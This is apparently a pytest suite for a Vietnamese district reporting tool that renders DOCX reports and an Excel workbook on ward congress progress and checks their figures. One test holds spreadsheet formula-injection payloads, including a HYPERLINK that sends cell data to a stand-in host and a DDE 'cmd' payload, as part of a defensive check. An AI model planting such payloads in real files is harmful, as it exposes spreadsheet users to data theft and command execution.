"""The district's reports upward: the progress report and the aggregate report (DOCX), and the
aggregate figures (.xlsx), built from a DistrictReport of five wards, one of them without data.

The documents are rendered with the compiled-template renderer and read back with python-docx;
the workbook is read back with openpyxl and its totals and percentages are checked with exact
Fraction arithmetic.
"""

from __future__ import annotations

import io
from datetime import UTC, date, datetime
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from docx.document import Document as DocumentObject
from docx.shared import Mm, Pt
from docx.table import Table
from openpyxl import load_workbook

from congress.adapters.aggregate_xlsx import (
    RESULTS_SHEET,
    SHEET,
    STAGE_SHEET,
    percent_value,
    write_aggregate_xlsx,
)
from congress.adapters.docx_lint import lint_template
from congress.adapters.docx_render import CompiledTemplate, environment
from congress.core.district import (
    Chosen,
    CongressResults,
    Deadline,
    DistrictReport,
    FindingLine,
    Share,
    WardSummary,
    aggregate,
)
from congress.core.district_context import DISTRICT_DOCUMENTS, district_context, sample_report
from congress.core.figures import Ratio
from congress.core.numbers import format_percent
from congress.core.text import xml_safe
from congress.errors import InputError
from tests.docx_helpers import paragraphs, style_value, text_of

ROOT = Path(__file__).resolve().parent.parent
TEMPLATES = ROOT / "doc_templates"
FONT = "Times New Roman"
TAG_MARKS = ("{{", "}}", "{%", "%}")
TERM = "2024-2029"
KEYS = ("re_elected", "women", "non_party", "ethnic_minority", "religious")

STAGES = [
    {"id": "guidance", "label": "Hướng dẫn, kế hoạch"},
    {"id": "pilot", "label": "Đại hội điểm"},
    {"id": "drafts", "label": "Dự thảo văn kiện"},
    {"id": "personnel", "label": "Đề án nhân sự"},
    {"id": "congress", "label": "Đại hội, kiểm phiếu"},
    {"id": "done", "label": "Hoàn thành"},
]
LABELS = {s["id"]: s["label"] for s in STAGES}


def ward(
    slug: str,
    name: str,
    stage: str,
    figures: tuple[int, int, int, int, int, int, int] | None,
    **extra: Any,
) -> WardSummary:
    """`figures` = planned, proposed, re-elected, women, non-Party, ethnic minority, religious;
    re-election is counted out of the planned size, the other shares out of the proposed."""
    shares = {}
    planned = extra.pop("planned_size", None)
    if figures is not None:
        planned, proposed, *counts = figures
        for key, count in zip(KEYS, counts, strict=True):
            base, of = ("planned", planned) if key == "re_elected" else ("proposed", proposed)
            shares[key] = Share(ratio=Ratio(count=count, of=of, base=base))
    data: dict[str, Any] = {
        "slug": slug,
        "name": name,
        "group": "Tổ 1",
        "pilot": False,
        "stage": stage,
        "stage_label": LABELS[stage],
        "stage_index": [s["id"] for s in STAGES].index(stage),
        "since": datetime(2024, 1, 10, 9, 15, tzinfo=UTC),
        "state": "ok",
        "shares": shares,
        "planned_size": planned,
    }
    data.update(extra)
    return WardSummary.model_validate(data)


# Ô Chợ Dừa's count reconciles; Cát Linh has held its congress but its count does not reconcile
# (a tally, no results): it is named in the results section, counted in none of its figures.
O_CHO_DUA_RESULTS = CongressResults(
    convened=150,
    present=142,
    committee=Chosen(planned=55, chosen=53, vacancies=2),
    official=Chosen(planned=6, chosen=6),
    alternate=Chosen(planned=1, chosen=1),
    standing=Chosen(planned=5, chosen=5),
)


def district() -> DistrictReport:
    wards = [
        ward(
            "o-cho-dua",
            "Ô Chợ Dừa",
            "done",
            (55, 53, 19, 18, 22, 1, 2),
            pilot=True,
            tally={"convened": 150, "present": 142},
            results=O_CHO_DUA_RESULTS,
        ),
        ward(
            "cat-linh",
            "Cát Linh",
            "congress",
            (45, 45, 27, 14, 20, 0, 1),
            group="Tổ 2",
            tally={"convened": 120, "present": 111},
        ),
        ward(
            "hang-bot",
            "Hàng Bột",
            "personnel",
            (55, 55, 34, 16, 21, 0, 3),
            state="blocked",
            blocking=[
                FindingLine(
                    rule="re_election_max",
                    title="Tỷ lệ tái cử",
                    message="Tỷ lệ tái cử 34/55 (61,82%) vượt mức tối đa 60%.",
                    severity="error",
                )
            ],
            overdue=[
                Deadline(
                    stage="personnel", label="Đề án nhân sự", due=date(2024, 1, 20), days_late=5
                )
            ],
        ),
        ward(
            "kham-thien",
            "Khâm Thiên",
            "drafts",
            (40, 38, 13, 11, 17, 2, 0),
            group="Tổ 2",
            exceptions=[
                {
                    "rule": "women_min",
                    "reason": "Phường chưa đủ nữ đủ tiêu chuẩn.",
                    "granted_by": "Ban Thường trực quận",
                    "document": "Công văn 12/MTTQ",
                }
            ],
        ),
        ward(
            "lang-ha",
            "Láng Hạ",
            "guidance",
            None,
            planned_size=50,
            state="missing_data",
            problems=["Thiếu danh sách nhân sự dự kiến."],
            overdue=[
                Deadline(stage="pilot", label="Đại hội điểm", due=date(2024, 1, 5), days_late=20)
            ],
        ),
    ]
    return DistrictReport(
        unit="Quận Đống Đa",
        workflow={"id": "ward-2024-2029"},
        today=date(2024, 1, 25),
        stages=STAGES,
        wards=wards,
        totals=aggregate(wards, [s["id"] for s in STAGES]),
    )


WITH_DATA = ("Ô Chợ Dừa", "Cát Linh", "Hàng Bột", "Khâm Thiên")


# -- reading documents back ------------------------------------------------------------------


def render(doc_id: str, report: DistrictReport, *, draft: bool = False) -> tuple[DocumentObject, dict[str, Any]]:  # fmt: skip
    ctx = district_context(doc_id, report, term=TERM, place="Đống Đa", draft=draft, signer="Nguyễn Văn Hùng")  # fmt: skip
    template = CompiledTemplate.load(TEMPLATES / DISTRICT_DOCUMENTS[doc_id].template, environment())
    return Document(io.BytesIO(template.render(ctx))), ctx


def rows_of(table: Table) -> list[list[str]]:
    return [[c.text for c in row.cells] for row in table.rows]


def table_with(doc: DocumentObject, header: str) -> Table:
    (found,) = [t for t in doc.tables if header in rows_of(t)[0]]
    return found


@pytest.fixture(scope="module")
def report() -> DistrictReport:
    return district()


# -- both documents: the official format ------------------------------------------------------


@pytest.mark.parametrize("draft", [False, True], ids=["final", "draft"])
@pytest.mark.parametrize("doc_id", sorted(DISTRICT_DOCUMENTS))
def test_format_header_and_signature(report: DistrictReport, doc_id: str, draft: bool) -> None:
    doc, ctx = render(doc_id, report, draft=draft)
    (section,) = doc.sections
    for value, mm in ((section.page_width, 210), (section.page_height, 297), (section.left_margin, 30), (section.right_margin, 15)):  # fmt: skip
        assert value is not None and abs(value - Mm(mm)) <= Mm(0.5)
    assert doc.styles["Normal"].font.name == FONT
    for paragraph in paragraphs(doc):
        for run in paragraph.runs:
            assert (run.font.name or style_value(paragraph, "name")) == FONT, run.text
        assert not any(mark in paragraph.text for mark in TAG_MARKS), paragraph.text

    left, right = doc.tables[0].rows[0].cells
    assert [p.text for p in left.paragraphs if p.text] == ["ỦY BAN MTTQ VIỆT NAM QUẬN ĐỐNG ĐA", "BAN THƯỜNG TRỰC", "Số:      /BC-MTTQ-BTT"]  # fmt: skip
    assert [p.text for p in right.paragraphs if p.text] == ["CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc", "Đống Đa, ngày 25 tháng 01 năm 2024"]  # fmt: skip
    body = [p.text for p in doc.paragraphs]
    assert "BÁO CÁO" in body
    assert ctx["subject"] in body and ctx["subject"].endswith(f"nhiệm kỳ {TERM}")
    assert ("DỰ THẢO" in body) is draft

    recipients, signature = doc.tables[-1].rows[0].cells
    lines = [p.text for p in recipients.paragraphs if p.text]
    assert lines[0] == "Nơi nhận:" and lines[-1] == "- Lưu: VT." and len(lines) > 2
    assert [p.text for p in signature.paragraphs if p.text] == ["TM. BAN THƯỜNG TRỰC", "CHỦ TỊCH", "Nguyễn Văn Hùng"]  # fmt: skip


def test_context_is_plain_data(report: DistrictReport) -> None:
    def walk(value: Any) -> None:
        if isinstance(value, dict):
            assert all(isinstance(k, str) for k in value)
            for item in value.values():
                walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)
        else:
            assert isinstance(value, str | bool), repr(value)

    for doc_id in DISTRICT_DOCUMENTS:
        walk(district_context(doc_id, report, term=TERM, place="Đống Đa", draft=True))


# -- the progress report ----------------------------------------------------------------------


def test_progress_report_counts_stages_and_names_problems(report: DistrictReport) -> None:
    doc, _ctx = render("bao_cao_tien_do", report)
    stages = rows_of(table_with(doc, "Số đơn vị"))[1:]
    assert [row[1] for row in stages] == [s["label"] for s in STAGES]
    assert [row[2] for row in stages] == ["1", "0", "1", "1", "1", "1"]
    assert sum(int(row[2]) for row in stages) == len(report.wards)

    wards = rows_of(table_with(doc, "Bước hiện tại"))[1:]
    assert [row[1] for row in wards] == ["Ô Chợ Dừa (Đại hội điểm)", "Cát Linh", "Hàng Bột", "Khâm Thiên", "Láng Hạ"]  # fmt: skip
    assert wards[2][3:] == ["Đề án nhân sự", "10/01/2024", "Chậm tiến độ 5 ngày; có vướng mắc"]
    assert wards[1][5] == "Đúng tiến độ" and "Bình thường" not in text_of(doc)

    overdue = rows_of(table_with(doc, "Số ngày chậm"))[1:]
    assert overdue == [
        ["1", "Hàng Bột", "Đề án nhân sự", "20/01/2024", "5"],
        ["2", "Láng Hạ", "Đại hội điểm", "05/01/2024", "20"],
    ]
    text = text_of(doc)
    assert "1. Phường Hàng Bột" in text
    assert "- Tỷ lệ tái cử 34/55 (61,82%) vượt mức tối đa 60%." in text
    assert "- Phường Láng Hạ: Thiếu danh sách nhân sự dự kiến." in text
    assert "- Phường Khâm Thiên: Phường chưa đủ nữ đủ tiêu chuẩn (Ban Thường trực quận, Công văn 12/MTTQ)." in text  # fmt: skip
    assert "Số đơn vị chậm tiến độ: 2; có vướng mắc: 1; chưa đủ số liệu: 1." in text
    assert "Không có phường" not in text.replace("Không có phường bị trả lại bước trước.", "")


def test_progress_report_says_when_nothing_is_wrong() -> None:
    wards = [ward("cat-linh", "Cát Linh", "done", (45, 45, 20, 14, 20, 0, 1))]
    calm = DistrictReport(unit="Quận Đống Đa", workflow={}, today=date(2024, 3, 1), stages=STAGES, wards=wards, totals=aggregate(wards, [s["id"] for s in STAGES]))  # fmt: skip
    doc, _ctx = render("bao_cao_tien_do", calm)
    text = text_of(doc)
    assert "Không có đơn vị chậm tiến độ." in text
    assert "Không có đơn vị có vướng mắc." in text
    assert "Không có trường hợp ngoại lệ." in text
    assert "Không có phường bị trả lại bước trước." in text
    assert not [t for t in doc.tables if "Số ngày chậm" in rows_of(t)[0]]


# -- the aggregate report ---------------------------------------------------------------------


def count_and_percent(cell: str) -> tuple[int, str] | None:
    """ "19\n(34,55%)" -> (19, "34,55"); "…" -> None."""
    lines = cell.split("\n")
    if lines[0] == "…":
        return None
    return int(lines[0]), lines[1].removeprefix("(").removesuffix("%)")


def test_aggregate_report_table_and_totals(report: DistrictReport) -> None:
    doc, _ctx = render("bao_cao_tong_hop", report)
    grid = table_with(doc, "Số lượng dự kiến")
    rows = rows_of(grid)
    header, wards, total = rows[0], rows[1:-1], rows[-1]
    assert header[:4] == ["STT", "Đơn vị", "Số lượng dự kiến", "Số giới thiệu"]
    assert header[4:] == ["Tái cử", "Nữ", "Ngoài Đảng", "Dân tộc thiểu số", "Tôn giáo"]
    assert [row[1] for row in wards] == [w.name for w in report.wards]
    assert wards[0][:4] == ["1", "Ô Chợ Dừa", "55", "53"]
    assert count_and_percent(wards[0][4]) == (19, "34,55")
    # Láng Hạ has no data: placeholders, and it counts in no total
    assert [c.strip() for c in wards[-1][2:]] == ["…"] * 7
    assert total[1] == "Tổng cộng"

    with_data = [row for row in wards if row[1] in WITH_DATA]
    assert int(total[2]) == sum(int(row[2]) for row in with_data) == 195
    assert int(total[3]) == sum(int(row[3]) for row in with_data) == 191
    for column, key in enumerate(KEYS, start=4):
        parts = [count_and_percent(row[column]) for row in with_data]
        counts = [p[0] for p in parts if p]
        summed = count_and_percent(total[column])
        assert summed is not None
        assert summed[0] == sum(counts) == report.totals.shares[key].count
        whole = int(total[2]) if key == "re_elected" else int(total[3])
        assert summed[1] == format_percent(summed[0], whole)
        assert summed[1] == report.totals.shares[key].ratio.percent_text
    for paragraph in (p for cell in grid.rows[1].cells for p in cell.paragraphs):
        assert all(run.font.size == Pt(11) for run in paragraph.runs)

    text = text_of(doc)
    assert "4/5 phường đã có đề án nhân sự" in text and "chưa có số liệu: Láng Hạ" in text
    assert "Tổng số Ủy viên dự kiến 195 vị; số nhân sự được giới thiệu 191 vị; tái cử 93/195 vị, chiếm 47,69% số lượng Ủy viên dự kiến; nữ 59/191 vị, chiếm 30,89%" in text  # fmt: skip
    # the results: the congresses held whose count reconciles, before the proposals
    assert "Đến ngày 25/01/2024, 2/5 phường đã tổ chức Đại hội." in text
    assert "của 1/2 phường đã tổ chức Đại hội; 1 phường có số liệu kiểm phiếu chưa khớp, chưa tính vào kết quả: Phường Cát Linh." in text  # fmt: skip
    assert "Tổng số đại biểu được triệu tập: 150 vị; có mặt: 142 vị, chiếm 94,67% số đại biểu được triệu tập." in text  # fmt: skip
    assert "Ủy ban MTTQ Việt Nam khóa mới của 1 phường: số lượng 55 vị; Đại hội hiệp thương cử 53 vị, khuyết 02 vị." in text  # fmt: skip
    assert (
        text.index("I. KẾT QUẢ ĐẠI HỘI") < text.index("II. ĐỀ ÁN NHÂN SỰ") < text.index("(DỰ KIẾN)")
    )


# -- the workbook -----------------------------------------------------------------------------


def exact(value: object) -> Fraction:
    """The number a cell holds, as the decimal it was written from."""
    assert isinstance(value, int | float), value
    return Fraction(repr(value))


def rounded(part: int, whole: int) -> Fraction:
    """`part/whole` in percent rounded half up to 2 decimals, exactly."""
    units = Fraction(part * 10_000, whole) + Fraction(1, 2)
    return Fraction(units.numerator // units.denominator, 100)


def test_percent_value_rounds_half_up() -> None:
    assert percent_value(Ratio(count=1, of=800)) == 0.13  # 0.125 -> 0.13, not banker's 0.12
    assert percent_value(Ratio(count=34, of=55)) == 61.82
    assert percent_value(Ratio(count=1, of=0)) is None


def test_workbook_rows_totals_and_percentages(report: DistrictReport, tmp_path: Path) -> None:
    path = write_aggregate_xlsx(tmp_path / "out" / "tong-hop.xlsx", report)
    assert path.exists() and [p.name for p in path.parent.iterdir()] == ["tong-hop.xlsx"]
    book = load_workbook(path)
    sheet = book.worksheets[0]
    assert sheet.title == SHEET and "(DỰ KIẾN)" in str(sheet["A1"].value)
    rows = [list(r) for r in sheet.iter_rows(min_row=4, values_only=True)]
    header = rows[0]
    assert header[:6] == ["STT", "Đơn vị", "Tổ công tác", "Bước hiện tại", "Số lượng Ủy viên dự kiến", "Số nhân sự giới thiệu"]  # fmt: skip
    assert header[6:8] == ["Tái cử", "Tỷ lệ tái cử (%)"]
    assert header[10:12] == ["Ngoài Đảng", "Tỷ lệ ngoài Đảng (%)"]
    wards, total = rows[1:6], rows[6]
    assert [r[1] for r in wards] == [w.name for w in report.wards]
    assert wards[0][:4] == [1, "Ô Chợ Dừa", "Tổ 1", "Hoàn thành"]
    assert wards[4][4:] == [None] * 12  # no data: empty cells, not zeros
    assert total[1] == "Tổng cộng"

    with_data = [r for r in wards if r[1] in WITH_DATA]
    for column in (4, 5, 6, 8, 10, 12, 14):  # the counts
        assert total[column] == sum(r[column] for r in with_data), header[column]
    assert total[4] == 195 and total[6] == report.totals.shares["re_elected"].count
    for row in [*with_data, total]:
        planned, proposed = row[4], row[5]
        for count_column in (6, 8, 10, 12, 14):
            whole = planned if count_column == 6 else proposed
            assert exact(row[count_column + 1]) == rounded(row[count_column], whole), (row[1], header[count_column + 1])  # fmt: skip
    assert exact(total[7]) == Fraction(4769, 100)  # 93/195

    data_cells = sheet[5]
    assert all(c.font.name == FONT for c in data_cells)
    assert data_cells[7].number_format == "0.00" and isinstance(data_cells[7].value, float)
    assert isinstance(data_cells[6].value, int)
    assert sheet.freeze_panes == "C5"
    assert sheet.column_dimensions["B"].width >= 20
    note = next(r[0] for r in rows[7:] if r[0])
    assert "Láng Hạ" in note and "không tính vào dòng Tổng cộng" in note

    stages = book[STAGE_SHEET]
    counts = [list(r) for r in stages.iter_rows(min_row=4, values_only=True)]
    by_stage, stage_total = counts[:-1], counts[-1]
    assert [r[2] for r in by_stage] == [s["id"] for s in STAGES]
    assert sum(r[3] for r in by_stage) == len(report.wards) == stage_total[3]
    assert {r[2]: r[3] for r in by_stage} == report.totals.by_stage


# -- the results of the congresses held -------------------------------------------------------


def held_district() -> DistrictReport:
    """Three congresses held: Ô Chợ Dừa and Khâm Thiên counted (Khâm Thiên's first meeting not
    held yet), Cát Linh's count does not reconcile."""
    base = district()
    kham_thien = CongressResults(
        convened=120,
        present=117,
        committee=Chosen(planned=40, chosen=39, vacancies=1),
        official=Chosen(planned=4, chosen=4),
        alternate=Chosen(planned=1, chosen=1),
    )
    wards = [
        w.model_copy(update={"tally": {"convened": 120, "present": 117}, "results": kham_thien})
        if w.slug == "kham-thien"
        else w
        for w in base.wards
    ]
    totals = aggregate(wards, [s["id"] for s in STAGES])
    return base.model_copy(update={"wards": wards, "totals": totals})


COUNTED = ("Ô Chợ Dừa", "Khâm Thiên")
RESULT_COLUMNS = ("planned", "chosen", "vacancies", "official", "alternate", "standing")


def test_results_section_counts_only_reconciled_congresses() -> None:
    doc, ctx = render("bao_cao_tong_hop", held_district())
    rows = rows_of(table_with(doc, "Đã hiệp thương cử"))
    header, wards, total = rows[0], rows[1:-1], rows[-1]
    assert header == ["STT", "Đơn vị", "Số lượng Ủy viên", "Đã hiệp thương cử", "Khuyết", "Đại biểu chính thức", "Đại biểu dự khuyết", "Ban Thường trực"]  # fmt: skip
    assert [row[1] for row in wards] == list(COUNTED)  # Cát Linh: held, not reconciled
    assert wards[0][2:] == ["55", "53", "2", "6", "1", "5"]
    assert wards[1][2:] == ["40", "39", "1", "4", "1", "—"]  # no first meeting yet
    assert total[1] == "Tổng cộng" and total[2:] == ["95", "92", "3", "10", "2", "5"]
    for column in range(2, 7):
        assert int(total[column]) == sum(int(row[column]) for row in wards), header[column]
    assert int(total[3]) + int(total[4]) == int(total[2])  # chosen + vacancies = seats

    text = text_of(doc)
    assert "Đến ngày 25/01/2024, 3/5 phường đã tổ chức Đại hội." in text
    assert "của 2/3 phường đã tổ chức Đại hội; 1 phường có số liệu kiểm phiếu chưa khớp, chưa tính vào kết quả: Phường Cát Linh." in text  # fmt: skip
    assert "Tổng số đại biểu được triệu tập: 270 vị; có mặt: 259 vị, chiếm 95,93% số đại biểu được triệu tập." in text  # fmt: skip
    assert "Ủy ban MTTQ Việt Nam khóa mới của 2 phường: số lượng 95 vị; Đại hội hiệp thương cử 92 vị, khuyết 03 vị." in text  # fmt: skip
    assert "Đơn vị còn khuyết Ủy viên: Phường Ô Chợ Dừa khuyết 02 vị; Phường Khâm Thiên khuyết 01 vị." in text  # fmt: skip
    assert ": 10 đại biểu chính thức, 2 đại biểu dự khuyết." in text
    assert "Hội nghị lần thứ nhất Ủy ban khóa mới (1/2 phường đã họp) hiệp thương cử 5 vị Ủy viên Ban Thường trực." in text  # fmt: skip
    assert ctx["aggregate"]["results"]["uncounted"] == ["Cát Linh"]


def test_results_section_names_the_units_by_their_type() -> None:
    report = held_district()
    kinds = {w.name: "xã" if w.slug == "kham-thien" else "phường" for w in report.wards}
    ctx = district_context("bao_cao_tong_hop", report, term=TERM, place="Đống Đa", draft=False, ward_kinds=kinds)  # fmt: skip
    results = ctx["aggregate"]["results"]
    assert results["lines"][0] == "Đến ngày 25/01/2024, 3/5 xã, phường đã tổ chức Đại hội."
    assert "Xã Khâm Thiên khuyết 01 vị" in results["summary"][2]


def test_results_section_when_no_congress_is_held() -> None:
    report = district()
    wards = [w.model_copy(update={"tally": {}, "results": None}) for w in report.wards]
    report = report.model_copy(update={"wards": wards})
    doc, ctx = render("bao_cao_tong_hop", report)
    text = text_of(doc)
    assert "Đến ngày 25/01/2024, 0/5 phường đã tổ chức Đại hội." in text
    assert "Đã hiệp thương cử" not in text and "khuyết 0" not in text
    assert ctx["aggregate"]["results"]["rows"] == []


def test_workbook_results_sheet_and_print_setup(tmp_path: Path) -> None:
    report = held_district()
    book = load_workbook(write_aggregate_xlsx(tmp_path / "tong-hop.xlsx", report))
    assert book.sheetnames == [SHEET, RESULTS_SHEET, STAGE_SHEET]
    sheet = book[RESULTS_SHEET]
    assert "ĐÃ TỔ CHỨC ĐẠI HỘI" in str(sheet["A1"].value)
    rows = [list(r) for r in sheet.iter_rows(min_row=4, values_only=True)]
    header, wards, total = rows[0], rows[1:3], rows[3]
    assert header == ["STT", "Đơn vị", "Tổ công tác", "Đại biểu được triệu tập", "Đại biểu có mặt", "Số lượng Ủy viên", "Ủy viên đã hiệp thương cử", "Số khuyết", "Đại biểu chính thức", "Đại biểu dự khuyết", "Ủy viên Ban Thường trực"]  # fmt: skip
    assert [r[1] for r in wards] == list(COUNTED)
    assert wards[0][3:] == [150, 142, 55, 53, 2, 6, 1, 5]
    assert wards[1][3:] == [120, 117, 40, 39, 1, 4, 1, None]  # no first meeting: empty
    assert total[1] == "Tổng cộng"
    for column in range(3, 11):
        assert total[column] == sum(r[column] or 0 for r in wards), header[column]
    assert total[6] + total[7] == total[5]
    note = next(r[0] for r in rows[4:] if r[0])
    assert "3/5 phường đã tổ chức Đại hội" in note and "chưa tính vào kết quả: Cát Linh" in note
    assert not any(r[1] == "Cát Linh" for r in rows)

    for each in book.worksheets:
        setup = each.page_setup
        assert (int(setup.paperSize or 0), setup.orientation) == (9, "landscape"), (
            each.title
        )  # 9: A4
        assert (setup.fitToWidth, setup.fitToHeight) == (1, 0), each.title
        assert each.sheet_properties.pageSetUpPr is not None
        assert each.sheet_properties.pageSetUpPr.fitToPage, each.title
        assert each.print_title_rows in ("$4:$4", "$3:$3"), each.title
    assert book[SHEET].print_title_rows == book[RESULTS_SHEET].print_title_rows == "$4:$4"


INJECTED = {
    "name": '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
    "group": "+1+cmd|' /C calc'!A0",
    "stage_label": "-2+3",
    "slug": "@SUM(1,2)",
}


def test_workbook_writes_user_text_as_text(tmp_path: Path) -> None:
    """OWASP formula injection: a cell a user's text fills is never a formula, whatever it
    starts with («=», «+», «-», «@»), and reads back exactly as typed."""
    base = held_district()
    first = base.wards[0].model_copy(update=INJECTED)
    wards = [first, *base.wards[1:]]
    report = base.model_copy(update={"wards": wards, "unit": "=1+1", "stages": [{**STAGES[0], "label": "@evil"}, *STAGES[1:]]})  # fmt: skip
    path = write_aggregate_xlsx(tmp_path / "tong-hop.xlsx", report)
    book = load_workbook(path)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert {INJECTED["name"], INJECTED["group"], INJECTED["stage_label"]} <= values
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    # the counted ward's row on the results sheet, by its name
    results = book[RESULTS_SHEET]
    assert results["B5"].value == INJECTED["name"] and results["B5"].data_type == "s"
    # and in the XML itself: no <f> element anywhere
    import zipfile

    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)  # fmt: skip


def test_workbook_refuses_a_file_open_in_excel(report: DistrictReport, tmp_path: Path) -> None:
    path = tmp_path / "tong-hop.xlsx"
    (tmp_path / "~$ng-hop.xlsx").write_text("")
    with pytest.raises(InputError):
        write_aggregate_xlsx(path, report)
    assert not path.exists()


@pytest.mark.parametrize("doc_id", sorted(DISTRICT_DOCUMENTS))
def test_templates_lint_clean_against_district_data(doc_id: str) -> None:
    """Whole tags, known variables, Times New Roman, fillable even for a district with no ward."""
    data = xml_safe(district_context(doc_id, sample_report(), term="…", place="…", draft=True))
    path = TEMPLATES / DISTRICT_DOCUMENTS[doc_id].template

    def fill(compiled: CompiledTemplate) -> None:
        compiled.render(data)

    assert lint_template(path, set(data), fill) == []
